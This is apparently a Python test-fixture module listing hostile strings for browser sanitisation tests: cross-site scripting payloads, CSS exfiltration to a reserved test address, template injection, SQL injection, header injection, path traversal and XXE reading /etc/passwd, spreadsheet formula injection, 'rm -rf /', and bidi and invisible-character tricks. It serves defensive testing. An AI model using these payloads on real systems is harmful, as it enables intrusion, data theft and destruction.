"""Strings that try to be more than text: markup, scripts, addresses, styles, tricks with signs.

Every string that could run calls ``coachbridge_pwned`` or opens a dialog, or fetches from an
address that is nobody's (RFC 5737), so a page that lets it through is caught by ``ground``.
``FAMILIES`` are for tests that want a few of each kind, ``STRINGS`` are all; each is different,
not blank, and short enough for one message on any network but SMS.
"""

from __future__ import annotations

from itertools import product

from tests.browser.ground import PWNED

RUN = f"{PWNED}(1)"
AWAY = "http://192.0.2.1/x"

_SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script/x>{RUN}</script/x>",
    f"<script\n>{RUN}</script\n>",
    f"<script\t>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<script type='text/javascript' nonce=''>{RUN}</script>",
    f"<script src={AWAY}.js></script>",
    "<script src=//192.0.2.1/x.js></script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f'<script async src="data:,{RUN}"></script>',
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script>{RUN}",
    f"<script>/*{'x' * 40}*/{RUN}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f'<script type=importmap>{{"imports":{{"x":"data:text/javascript,{RUN}"}}}}</script>',
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{AWAY}"]}}]}}</script>',
)

_HANDLERS = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("p tabindex=1 autofocus", "onfocus"),
    ("iframe src=about:blank", "onload"),
    ("object data=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("p style='animation:x 1ms'", "onanimationstart"),
)
_QUOTES = ("{0}={1}", '{0}="{1}"', "{0}='{1}'", "{0} =\n{1}", "{0}=`{1}`")
_ATTRIBUTES = tuple(
    f"<{tag} {quote.format(handler, RUN)}>" for (tag, handler), quote in product(_HANDLERS, _QUOTES)
)

_ENDS = (
    '"', "'", "`", '">', "'>", "`>", "-->", "--!>", "]]>", "*/", "</title>", "</textarea>",
    "</style>", "</script>", "</noscript>", "</template>", "</svg>", "</math>", "</select>",
    "</option>", "\\\">", "\\'>", "%22%3E", "&quot;&gt;",
)  # fmt: skip
_BREAKS = tuple(
    f"{end}{rest}"
    for end, rest in product(
        _ENDS, (f"<img src=x onerror={RUN}>", f" onmouseover={RUN} autofocus onfocus={RUN} x=")
    )
)

_SCHEMES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f" javascript:{RUN}",
    f"javascript\n:{RUN}",
    f"javascript://127.0.0.1/%0a{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload='{RUN}'/>",
    f"vbscript:{RUN}",
    "blob:http://127.0.0.1/x",
    "file:///etc/passwd",
    "//192.0.2.1/x",
    "\\\\192.0.2.1\\x",
)
_PLACES = (
    "{0}",
    "<a href='{0}'>x</a>",
    "[x]({0})",
    "<iframe src='{0}'></iframe>",
    "<img src='{0}'>",
)
_ADDRESSES = (
    *(place.format(scheme) for scheme, place in product(_SCHEMES, _PLACES)),
    f'http://127.0.0.1/"onmouseover="{RUN}',
    f"http://127.0.0.1/'onfocus='{RUN}' autofocus='",
    f"http://127.0.0.1/<img src=x onerror={RUN}>",
    "http://127.0.0.1:1/\u202egpj.exe",
    "http://user:password@127.0.0.1/",
    "http://127.0.0.1\\@192.0.2.1/",
    f"<form action='{AWAY}'><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href='{AWAY}/'>",
    f"<link rel=preload as=image href={AWAY}>",
    f"<link rel=dns-prefetch href={AWAY}>",
    f"<embed src={AWAY}>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
)

_STYLES = (
    "<style>*{display:none!important}</style>",
    f"<style>@import '{AWAY}.css';</style>",
    f"<style>*{{background:url({AWAY})}}</style>",
    f"<p style='background:url({AWAY})'>x</p>",
    "<p style='position:fixed;inset:0;z-index:99999;background:red'>x</p>",
    f"<p style='width:expression({RUN})'>x</p>",
    f'<p style="behavior:url({AWAY})">x</p>',
    f"<link rel=stylesheet href='data:text/css,*{{background:url({AWAY})}}'>",
    "}*{display:none}",
    "; background: red; position: fixed",
    "--hue: 1; } body { display: none",
    "url(javascript:alert(1))",
    f"<style>input[value^=a]{{background:url({AWAY}?a)}}</style>",
    "<style>@font-face{font-family:x;src:url(http://192.0.2.1/x)}</style>",
    "<p class='away' role=alert>x</p>",
    "</style><style>p{font-size:400px}</style>",
)

_DRAWINGS = (
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:,{RUN}'/></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN}>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>",
    f"<svg><image href={AWAY}></svg>",
    f"<svg><filter><feImage href={AWAY}></filter></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<!--<img src=x onerror={RUN}>-->",
    f"<!--><img src=x onerror={RUN}>-->",
)

_TEMPLATES = (
    "{{7*7}}", "{{ config.items() }}", "{{''.__class__.__mro__}}", "{% raw %}", "{% include 'x' %}",
    "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<% x %>", "{name}", "{0.__class__}", "{}", "{{",
    "}}", "%s", "%(name)s", "%n%n%n", "$name", "$(id)", "`id`", "{{{x}}}", "[[${7*7}]]", "@(7*7)",
    f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"<p ng-app>{{{{{RUN}}}}}</p>",
    f"<p x-data x-init='{RUN}'></p>", f"<p v-html=\"'{RUN}'\"></p>", f"*{{T(x).y({RUN})}}",
)  # fmt: skip

TURNING = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_BIDI = tuple(
    made
    for sign in TURNING
    for made in (f"{sign}evil", f"good{sign}gnp.exe", f"(a{sign}b) to Anna")
)
_INVISIBLE = tuple(
    made
    for sign in "\u200b\u200c\u200d\u2060\ufeff\u180e\u00ad\u034f\u3164\uffa0\u2800\ufff9"
    for made in (f"no{sign}or", f"{sign}Anna{sign}", f"<{sign}script>{RUN}</script>")
)
_CONTROL = (
    *(f"a{chr(code)}b" for code in range(1, 32) if chr(code) not in "\t\n\r"),
    *(f"a{chr(code)}b" for code in (0x7F, 0x80, 0x85, 0x90, 0x9B, 0x9F, 0x2028, 0x2029)),
    "a\tb", "a\nb", "a\r\nb", "a\ufffeb", "a\uffffb", "a\ufffdb", "a\U000e0041b", "a\ufe0fb",
    "\x1b[2J\x1b[31mred", "\x1b]0;title\x07x", "a\b\b\bb",
)  # fmt: skip

_STREAMS = (
    'x\n\nevent: log\ndata: {"trajectory":"anna-2026","after":0,"lines":[]}\n\n',
    "x\r\rdata: {}\r\r",
    "x\nid: 99\nretry: 1",
    '"}]}],"x":[{"y":"',
    "\\u003cscript\\u003e",
    '\\"};alert(1);//',
    "');alert(1);//",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "__proto__",
    "constructor",
    '{"__proto__":{"hidden":true}}',
    "undefined",
    "null",
    "NaN",
    "-1e309",
    "\\",
    "\\u0000",
    '{"$ne":null}',
)
_OTHERS = (
    "'; DROP TABLE entries; --", "' OR '1'='1", "1; UPDATE entries SET author='x'",
    "x\r\nSet-Cookie: a=b",
    "x%0d%0aLocation:%20//192.0.2.1", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd",
    "%00", "CON", "=HYPERLINK(\"http://192.0.2.1\")", "=cmd|'/c calc'!A1", "@SUM(1)", "+1-1",
    "*bold* _italic_ `code` [x](y)", "| a | b |\n|---|---|", "# title", "<<EOF", "; rm -rf /",
    "<b>bold</b>", "&lt;b&gt;", "&amp;lt;", "&#0;", "&#x1F600;", "&notit;", "<", ">", "&", "<>",
    "</>", "<a", "<!doctype html>", "<plaintext>", "<xmp>", "<listing>", "<frameset>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\x3cscript\\x3e{RUN}",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\u02c2script\u02c3{RUN}", f"<\u017fcript>{RUN}</\u017fcript>", f"<sc\u0131pt>{RUN}",
)  # fmt: skip
_CLOBBERS = tuple(
    f"<{tag} {name}={what}>"
    for tag, name, what in product(
        ("form", "img", "a", "input"), ("id", "name"), ("body", "words", "proof", "fetch", "forms")
    )
)
_SIZES = (
    "x" * 3000,
    "W" * 400 + " " + "i" * 400,
    "<b>" * 300,
    "a" + "\u0300\u0301\u0302\u0303" * 200,
    "👩\u200d👩\u200d👧\u200d👦" * 60,
    "\u0645\u0631\u062d\u0628\u0627 " * 60,
    "\n" * 200 + "x",
    "\ufdfd" * 60,
    "🇳🇱" * 100,
    "\U0001d4b3" * 300,
    "http://127.0.0.1/" + "a" * 1500,
    "- " * 900,
)

FAMILIES: dict[str, tuple[str, ...]] = {
    "script": _SCRIPTS,
    "attribute": _ATTRIBUTES,
    "break out": _BREAKS,
    "address": _ADDRESSES,
    "style": _STYLES,
    "drawing": _DRAWINGS,
    "template": _TEMPLATES,
    "bidi": _BIDI,
    "invisible": _INVISIBLE,
    "control": _CONTROL,
    "stream": _STREAMS,
    "other": _OTHERS,
    "clobber": _CLOBBERS,
    "size": _SIZES,
}
STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(one for family in FAMILIES.values() for one in family)
)
